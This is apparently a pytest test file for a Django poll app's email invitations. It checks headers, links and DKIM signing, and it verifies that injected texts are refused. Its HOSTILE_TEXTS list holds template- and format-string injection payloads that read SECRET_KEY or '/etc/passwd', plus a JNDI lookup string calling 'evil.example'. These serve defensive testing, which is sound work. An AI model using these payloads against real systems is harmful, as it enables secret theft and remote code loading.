"""Every mail with every text, under hostile names and hostile texts: lawful, signed, and nothing is evaluated."""

import re
from collections.abc import Iterator
from email import message_from_bytes, policy
from email.message import EmailMessage
from itertools import product

import dkim
import pytest
from django.template import Context, Template
from pytest_django import Settings

from polls.invitations import mail
from polls.invitations.letters import LetterKind, UnfitTextError, Wording
from polls.invitations.services import smtp
from tests.faults.figures import Tell, sized
from tests.invitations.test_mail import HOSTILE_NAMES, LETTER
from tests.invitations.test_signing import PRIVATE, PUBLIC

ANSWER, OPT_OUT = LETTER.answer_url, LETTER.opt_out_url
NAMES = [
    *HOSTILE_NAMES,
    *(f"{prefix}{name}" for prefix in ("dr. ", "\u202e", "\t", "'") for name in HOSTILE_NAMES),
]
HOSTILE_TEXTS = [
    "{{settings.SECRET_KEY}}",
    "{{ settings.SECRET_KEY|safe }}",
    "{0.__class__}",
    "{0.__class__.__mro__[1].__subclasses__()}",
    "{name.__init__.__globals__}",
    "{name!r:>1000}",
    "{% load static %}{% debug %}",
    "{% include '/etc/passwd' %}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7} {7*7}",
    "{naam",
    "}",
    "{sluiting.__class__}",
]


def faults_of(content: bytes, kind: LetterKind) -> Iterator[str]:
    """Find what is wrong with a mail as it goes over the wire."""
    message = message_from_bytes(content, _class=EmailMessage, policy=policy.default)
    names = [name.lower() for name in message]
    if len(names) != len(set(names)) or {"bcc", "cc"} & set(names):
        yield "headers that nobody wrote"
    wanted = {"from", "to", "date", "subject", "message-id", "list-id", "list-unsubscribe", "list-unsubscribe-post"}
    if wanted - set(names) or message["Auto-Submitted"] != "auto-generated":
        yield "a header is missing"
    if len(message["To"].addresses) != 1:
        yield "not one recipient"
    if len(str(message["Subject"])) > mail.LONGEST_SUBJECT:
        yield "a long subject"
    if max(len(line) for line in content.split(b"\r\n")) > 998:
        yield "a long line"
    text, html = (str(part.get_content()) for part in message.iter_parts())
    if re.search(r"<(img|link|script|iframe|object|style|form)\b|url\(|src=", html):
        yield "something is fetched or hidden"
    links = {OPT_OUT} if kind is LetterKind.THANKS else {ANSWER, OPT_OUT}
    if set(re.findall(r"https?://[^\s<\"]+", text)) != links or set(re.findall(r'href="([^"]+)"', html)) != links:
        yield "text and HTML lead elsewhere"
    signed = str(message["DKIM-Signature"]).lower().replace(" ", "").split("h=")[1].split(";")[0].split(":")
    if not {"from", "list-unsubscribe", "list-unsubscribe-post"} <= set(signed):
        yield "the signature covers too little"


def test_every_mail_is_in_order_under_every_name(settings: Settings, tell: Tell) -> None:
    settings.DKIM_KEY, settings.DKIM_DOMAIN, settings.DKIM_SELECTOR = PRIVATE, "ksf.example", "polls"
    settings.DEFAULT_FROM_EMAIL = "Klantenservice Federatie <peiling@ksf.example>"
    found, unsigned, number = [], 0, 0
    names = NAMES[: sized(len(HOSTILE_NAMES), len(NAMES))]
    for kind, language, name in product(LetterKind, ("nl", "en"), names):
        letter = mail.Letter(**{**LETTER.__dict__, "kind": kind, "language": language, "name": name})
        content = mail.write(letter).message().as_bytes().replace(b"\n", b"\r\n")
        content = smtp.signature_of(content) + content
        number += 1
        found += [(kind, name, fault) for fault in faults_of(content, kind)]
        unsigned += number % 25 == 0 and not dkim.verify(content, dnsfunc=lambda name, timeout=5: PUBLIC)
    tell(
        "G-MAIL-6",
        f"every mail in 2 languages to {len(names)} hostile names: each header, link and signature read",
        size=f"{number} mails",
        allowed="no faults",
        figure=f"{len(found)} faults, {unsigned} bad signatures",
    )
    assert found == []
    assert unsigned == 0


def test_control_a_mail_that_is_not_in_order_is_seen(settings: Settings) -> None:
    settings.DKIM_KEY, settings.DKIM_DOMAIN, settings.DKIM_SELECTOR = PRIVATE, "ksf.example", "polls"
    written = mail.write(LETTER)
    written.cc = ["somebody.else@firm.example"]
    html = str(written.alternatives[0][0]).replace("</body>", '<img src="https://count.example/p.gif"></body>')
    written.alternatives.clear()
    written.attach_alternative(html, "text/html")
    content = written.message().as_bytes().replace(b"\n", b"\r\n")
    found = set(faults_of(smtp.signature_of(content) + content, LETTER.kind))
    assert {"headers that nobody wrote", "something is fetched or hidden"} <= found


@pytest.mark.parametrize("place", ["subject", "text"])
def test_hostile_texts_are_never_sent_and_never_evaluated(place: str, settings: Settings, tell: Tell) -> None:
    settings.SECRET_KEY = "a secret that must not come out"
    sent = refused = leaks = 0
    for kind, language, hostile in product(LetterKind, ("nl", "en"), HOSTILE_TEXTS):
        wording = Wording(hostile, "x") if place == "subject" else Wording("x", hostile)
        letter = mail.Letter(**{**LETTER.__dict__, "kind": kind, "language": language, "wording": wording})
        try:
            content = mail.write(letter).message().as_bytes()
        except UnfitTextError:
            refused += 1
        else:
            sent += 1
            leaks += settings.SECRET_KEY.encode() in content or b"49" in content
    tell(
        "G-MAIL-8",
        f"hostile texts as {place} of every mail",
        size=f"{refused + sent} texts",
        allowed="none is sent",
        figure=f"{refused} refused, {sent} sent, {leaks} evaluated",
    )
    assert (sent, leaks) == (0, 0)


def test_control_a_usual_template_gives_the_secret_away(settings: Settings) -> None:
    """What is refused above is no harmless text: Django's own templates would fill it in."""
    settings.SECRET_KEY = "a secret that must not come out"
    written = Template(HOSTILE_TEXTS[0]).render(Context({"settings": settings}))
    assert settings.SECRET_KEY in written


def test_hostile_names_add_no_header_and_are_not_read_as_texts(tell: Tell) -> None:
    plain = {name.lower() for name in mail.write(LETTER).message().keys()}  # noqa: SIM118
    more = evaluated = 0
    for name in [*NAMES, "{titel}", "{title}", "{{titel}}"]:
        written = mail.write(mail.Letter(**{**LETTER.__dict__, "name": name}))
        more += len({each.lower() for each in written.message().keys()} - plain)  # noqa: SIM118
        greeting = next(line for line in str(written.body).splitlines() if line.startswith("Beste"))
        evaluated += "Uitbesteden" in greeting
    tell(
        "G-MAIL-8",
        "hostile names in the greeting",
        size=f"{len(NAMES) + 3} names",
        allowed="no header more, nothing evaluated",
        figure=f"{more} more headers, {evaluated} evaluated",
    )
    assert (more, evaluated) == (0, 0)
